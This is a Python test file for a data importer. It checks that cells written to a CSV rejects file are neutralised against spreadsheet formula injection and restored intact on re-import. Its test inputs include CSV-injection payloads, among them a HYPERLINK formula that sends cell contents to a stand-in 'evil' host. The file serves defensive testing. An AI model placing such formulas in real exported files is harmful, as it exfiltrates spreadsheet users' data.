"""Cells of the rejects file are text to every spreadsheet, and come back as they were."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from producers.importer.harmless import as_it_was, harmless
from producers.importer.source import Row, examine, rows_of
from producers.importer.tally import Book, Rejected
from tests.unit.importer.files import a_file, a_mapping

FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "+86-138", "-1+1", "@SUM(1)", "\t=1", "\r=1", "  =1", "\uff1d1")


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_run_is_marked_as_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@given(cell=st.one_of(st.text(), st.sampled_from(FORMULAS), st.sampled_from(FORMULAS).map(harmless)))
def test_every_cell_comes_back_as_it_was(cell: str) -> None:
    assert as_it_was(harmless(cell)) == cell
    assert not harmless(cell).startswith(("=", "+", "-", "@"))


def test_rejects_hold_no_formula_and_bring_the_rows_back_as_they_were(tmp_path: Path) -> None:
    source = examine(a_file(tmp_path), a_mapping())
    cells = ("7", *FORMULAS[:3], "x;=1+1")
    book = Book(tmp_path / "import", source=source, purpose=b"m")

    book.enter(new=0, repeated=0, rejected=[Rejected(Row(number=1, line=2, cells=cells), "=no reason")], last=None)

    with book.rejects.open(encoding="utf-8-sig", newline="") as file:
        _, (*_, reason, first, formula, plus, minus, other) = csv.reader(file)
    assert (reason, first, other) == ("'=no reason", "7", "x;=1+1")
    assert [formula, plus, minus] == [f"'{cell}" for cell in FORMULAS[:3]]
    assert b';=1+1"' in book.rejects.read_bytes()
    (again,) = rows_of(examine(book.rejects, a_mapping()))
    assert again.cells[3:] == cells
